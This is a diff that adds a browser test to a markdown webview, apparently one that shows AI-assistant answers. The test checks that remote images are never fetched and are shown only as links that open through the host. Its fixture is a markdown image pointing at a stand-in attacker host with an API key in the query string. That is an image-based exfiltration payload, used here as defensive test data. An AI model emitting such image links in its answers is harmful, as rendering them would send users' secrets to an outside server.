@@ -270,6 +270,30 @@ describe("links", () => {
     assert.deepEqual(await page.$$eval(`${body("l1")} a`, (els) => els.slice(4).map((a) => a.getAttribute("href"))), [null, null, null, null]);
     assert.deepEqual(await view.problems(), []);
   });
+  it("never fetches an answer's network image: it is a link to it, which opens through the host", async () => {
+    const secret = "https://attacker.example/pixel.png?secret=API_KEY_123";
+    const text = `Status: ![build badge](${secret}) ![](https://img.example/diagrams/flow%20chart.svg) ![dot](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)`;
+    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "i1", text })] }) });
+    const { page, host } = view;
+    const fetched = [];
+    page.on("request", (request) => {
+      if (!request.url().startsWith(env.server.origin)) fetched.push(request.url());
+    });
+    await page.waitForSelector(`${body("i1")} a.md-remote-image`);
+    await frames(page, 5);
+    const shown = await page.$$eval(`${body("i1")} .md-remote-image`, (els) => els.map((a) => ({ text: a.textContent, href: a.getAttribute("href"), title: a.getAttribute("title"), icon: !!a.querySelector(".codicon-file-media") })));
+    assert.deepEqual(shown, [
+      { text: "build badge", href: secret, title: `Image not loaded: ${secret}`, icon: true },
+      { text: "flow chart.svg", href: "https://img.example/diagrams/flow%20chart.svg", title: "Image not loaded: https://img.example/diagrams/flow%20chart.svg", icon: true },
+    ]);
+    assert.deepEqual(await page.$$eval(`${body("i1")} img`, (els) => els.map((img) => img.getAttribute("src")?.slice(0, 15))), ["data:image/gif;"], "an image in the text itself still shows");
+    await page.click(`${body("i1")} a.md-remote-image`);
+    await host.waitForRequests("editor/openLink", 1);
+    assert.deepEqual((await host.requests("editor/openLink")).map((p) => p.href), [secret], "a click asks the host, which confirms before opening");
+    assert.deepEqual(fetched, [], "nothing was requested from another origin");
+    assert.deepEqual(await view.problems(), [], "and nothing was even tried (no CSP report)");
+    await page.screenshot({ path: path.join(outDir, "webview-remote-image.png"), clip: { x: 0, y: 0, width: 320, height: 260 } });
+  });
 });
 
 describe("screenshots of issue 6's parts", () => {
